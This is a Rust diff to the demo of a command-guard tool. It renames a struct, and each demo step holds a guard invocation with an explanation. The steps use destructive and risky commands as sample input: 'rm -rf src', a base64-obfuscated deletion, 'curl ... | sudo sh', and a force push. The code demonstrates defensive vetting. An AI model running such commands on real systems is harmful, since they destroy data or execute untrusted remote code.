@@ -110,50 +110,50 @@ fn is_scratch(root: &Path) -> bool {
 const HOME: &str = "home";
 
 /// What is shown: why, the arguments of guard, and what to see in what comes of it.
-struct Step {
+struct DemoStep {
     why: &'static str,
     arguments: &'static [&'static str],
     seen: &'static str,
 }
 
-const STEPS: &[Step] = &[
-    Step { why: "Reading is safe: it runs, and guard prints nothing.", arguments: &["--", "ls"], seen: "" },
-    Step {
+const STEPS: &[DemoStep] = &[
+    DemoStep { why: "Reading is safe: it runs, and guard prints nothing.", arguments: &["--", "ls"], seen: "" },
+    DemoStep {
         why: "A command string runs in your shell after guard has analysed every part of it.",
         arguments: &["-c", "wc -l src/* | sort -n"],
         seen: "",
     },
-    Step {
+    DemoStep {
         why: "build/ is ignored by git and can be created again, so this runs.",
         arguments: &["--", "rm", "-rf", "build"],
         seen: "",
     },
-    Step {
+    DemoStep {
         why: "src/ cannot be created again, so guard asks you. No answer means no.",
         arguments: &["--", "rm", "-rf", "src"],
         seen: "The card shows what would be deleted; ? explains it. Without an approval nothing runs.",
     },
-    Step {
+    DemoStep {
         why: "The same command, obfuscated: guard decodes it and judges the result.",
         arguments: &["-c", "sh -c \"$(echo cm0gLXJmIHNyYwo= | base64 -d)\""],
         seen: "Decoding text and running it scores higher than the hidden command itself.",
     },
-    Step {
+    DemoStep {
         why: "A rule of the project denies this, and nobody can approve it.",
         arguments: &["--", "./deploy", "production"],
         seen: "An agent reads that line and the exit code, and uses the alternative that it names.",
     },
-    Step {
+    DemoStep {
         why: "guard check judges a command without running it.",
         arguments: &["check", "curl -s https://example.com/x.sh | sudo sh"],
         seen: "",
     },
-    Step {
+    DemoStep {
         why: "guard explain shows how the verdict came about.",
         arguments: &["explain", "cd src && git push --force origin main"],
         seen: "",
     },
-    Step { why: "Every decision is in the record.", arguments: &["log", "-n", "8"], seen: "" },
+    DemoStep { why: "Every decision is in the record.", arguments: &["log", "-n", "8"], seen: "" },
 ];
 
 const NEXT: &str = "
@@ -176,7 +176,7 @@ pub fn run(args: &DemoArgs) -> io::Result<u8> {
     if guided && split_screen::is_possible() {
         return Err(split_screen::enter(scratch.root.path(), &scratch.project));
     }
-    for (number, Step { why, arguments, seen }) in STEPS.iter().enumerate() {
+    for (number, DemoStep { why, arguments, seen }) in STEPS.iter().enumerate() {
         let shown = arguments.iter().map(|word| quote(word)).collect::<Vec<_>>().join(" ");
         let mut out = io::stdout().lock();
         write!(out, "\n{}   $ guard {shown}\n", screen::fitted(&format!("{}. {why}", number + 1)))?;
